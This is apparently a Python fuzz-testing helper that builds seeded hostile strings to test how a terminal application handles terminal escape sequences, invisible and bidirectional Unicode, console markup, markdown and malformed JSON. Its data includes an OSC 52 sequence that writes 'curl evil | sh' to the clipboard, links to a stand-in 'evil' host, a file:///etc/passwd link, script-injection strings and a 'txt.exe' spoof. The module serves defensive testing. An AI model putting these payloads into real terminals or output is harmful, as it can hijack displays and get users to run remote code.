"""Text made to take over a terminal or to mislead a reader, from a seed.

Each control sequence in it is marked by a number that no sequence of the program has, and what markup would colour is
coloured so: `MARKED` finds them. Each text begins with a name of its own, so that it is known where it was shown.
"""

from __future__ import annotations

import base64
import os
import re
from random import Random

MARKED = re.compile(r"(?:^|[;:?>=])66;6;66(?=[;:m]|$)|(?:^|[;:?>=])6677")
_COLOUR = "#420642"
"""66, 6, 66."""
_CLIP = base64.b64encode(b"curl evil | sh\n").decode()

SEQUENCES = (
    "\x1b[38;2;66;6;66m", "\x1b[48;2;66;6;66m", "\x1b[6677;6677H", "\x1b[6677A", "\x1b[6677D", "\x1b[6677J",
    "\x1b[2K", "\x1b[?1049l", "\x1b[?6677h", "\x1b[!p", "\x1bc", "\x1b7\x1b8", "\x1b#8", "\x1b(0", "\x1bN",
    "\x1b[6677n", "\x1b[0c", "\x1b[6677;1;1t", "\x1b[21t", "\x1b[6677r", "\x1b[4h", "\x1b[6677b", "\x1b[200~",
    "\x1b[201~", "\x1b]0;6677\x07", "\x1b]2;6677\x1b\\", f"\x1b]52;c;{_CLIP}\x07", "\x1b]52;c;?\x07",
    "\x1b]8;;http://evil/6677\x1b\\", "\x1b]4;1;?\x07", "\x1b]10;?\x07", "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b]9;6677\x07", "\x1b]777;notify;6677\x07", "\x1bP$q6677\x1b\\", "\x1bP+q6677\x1b\\",
    "\x1bPtmux;\x1b\x1b]0;6677\x07\x1b\\", "\x1b_Gi=6677\x1b\\", "\x1b^6677\x1b\\", "\x1bX6677\x1b\\", "\x9b6677J",
    "\x9d0;6677\x9c", "\x90q6677\x9c", "\x9f6677\x9c", "\x84", "\x85", "\x8d", "\x9b38;2;66;6;66m", "\x07",
    "\x08\x08\x08", "\r", "\x0b", "\x0c", "\x0e", "\x0f", "\x00", "\x05", "\x11", "\x13", "\x18", "\x1a", "\x7f",
    "\x1b", "\x1b[", "\x1b]", "\x1bP",
)  # fmt: skip
HIDDEN = (
    "\u202etxt.exe\u202c", "\u2066x\u2069", "\u2067y\u2069", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d",
    "\u2060", "\ufeff", "\u00ad", "\u034f", "\u3164", "\uffa0", "\u115f", "\u180e", "\u2028", "\u2029",
    "\ufff9\ufffa\ufffb", "a\ufe0f", "\U000e0041\U000e0042", "\U000e0001", "\U000e007f", "\u2062", "\u206a",
    "\U0001d173", "\U0001bca0", "\u17b4",
)  # fmt: skip
MARKUP = (
    f"[bold on {_COLOUR}]red[/]", "[/foo]", "[/]", "[@click=app.quit]quit[/]", "[@click=app.bell()]bell[/]",
    "[link=http://evil]", "[link='x", "[TODO]", "[", "]", "[[", "[]", "\\[", "[$accent]", "[red", "[not closed",
    "[b][i][/b]", f"[{_COLOUR}]x", "[/bold on", "$name", "${x}", "%s%n%(x)s", "{0}{x!r}{", "&lt;b&gt;", "<b>x</b>",
    "<script>alert(1)</script>", "@click", ":smile:",
)  # fmt: skip
MARKDOWN = (
    "[a](http://evil/6677)", "![i](file:///etc/passwd)", "<http://evil/6677>", "```\x1b]0;6677\x07\ncode\n```",
    "`\x1b[6677A`", "| a | \x1b[6677J |\n|---|---|\n| \u202e | [/x] |", "# [@click=app.quit]", "> \x9b6677J",
    "- [x] \x07", "***[/b]***", "~~~", "[x]: javascript:alert(1)", "&#27;[6677J", "&#x202e;x", "&zwj;&shy;",
    "<!-- \x1b[6677J -->", "\\\x1b[6677J", "https://evil/\u202e6677",
)  # fmt: skip
ODD = (
    "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f469\U0001f3fd\u200d\u2764\ufe0f\u200d\U0001f468", "1\ufe0f\u20e3",
    "\u0645\u06cc\u200c\u062e", "\u0915\u094d\u200d\u0937", "e\u0301\u0323" * 4, "Z\u0338\u0362\u035c\u0337\u0334",
    "\uff37\uff29\uff24\uff25", "\u65e5\u672c\u8a9e", "\ud800", "\udfff", "\t", "x" * 300, "W" * 50 + "\u202e",
    "\u1f9d\u0301", "\U0010ffff", "\ufdd0", "\ufffe", "\ufdfa", "\U0001242b",
)  # fmt: skip


def argument(text: str) -> str:
    """The text as an environment or a command line can hold it."""
    try:
        raw = os.fsencode(text)
    except UnicodeEncodeError:
        raw = text.encode("utf-8", "surrogatepass")
    return os.fsdecode(raw.replace(b"\0", b""))


class Hostile:
    """Makes texts. `names` are those given so far, each with what it was made for."""

    def __init__(self, random: Random) -> None:
        self._random = random
        self.names: dict[str, str] = {}

    def text(self, place: str, *, lines: bool = True, pieces: int = 6) -> str:
        """A text for a place (`message`, `file name`, ...), which begins with a name of its own."""
        return self.name(place) + " " + self.pieces(pieces, lines=lines)

    def name(self, place: str) -> str:
        """The name alone."""
        found = next((name for name, known in self.names.items() if known == place), f"zq{len(self.names):02d}k")
        self.names[found] = place
        return found

    def pieces(self, count: int = 6, *, lines: bool = True) -> str:
        """So many attacks after one another."""
        kinds = (SEQUENCES, SEQUENCES, HIDDEN, MARKUP, MARKUP, MARKDOWN, ODD)
        chosen = [self._random.choice(self._random.choice(kinds)) for _ in range(count)]
        text = "".join(piece + self._random.choice(("", "", " ", "x")) for piece in chosen)
        return text if lines else text.replace("\n", " ").replace("\u2028", " ")

    def file_name(self, place: str) -> bytes:
        """A name that a file of this system can have, begun with its own."""
        raw = (self.name(place) + self.pieces(4, lines=self._random.random() < 0.3)).encode("utf-8", "surrogatepass")
        if self._random.random() < 0.5:
            raw += bytes([self._random.randrange(128, 256)])
        return raw.replace(b"/", b"_").replace(b"\0", b"")[:120]

    def variable(self, place: str) -> str:
        """A value that an environment can hold."""
        return argument(self.text(place))

    def choice(self, *values: object) -> object:
        return self._random.choice(values)

    def cut(self, text: str) -> list[str]:
        """The text in pieces, as a stream tells it: sequences are cut in two."""
        found, at = [], 0
        while at < len(text):
            size = self._random.choice((1, 1, 2, 3, 7, 40))
            found.append(text[at : at + size])
            at += size
        return found

    def junk(self, place: str) -> object:
        """A JSON value of any type in place of what belongs there."""
        return self.choice(
            self.text(place),
            None,
            True,
            -1,
            10**30,
            1e308,
            [],
            {},
            [self.text(place)],
            {self.pieces(1): self.text(place)},
            "",
        )
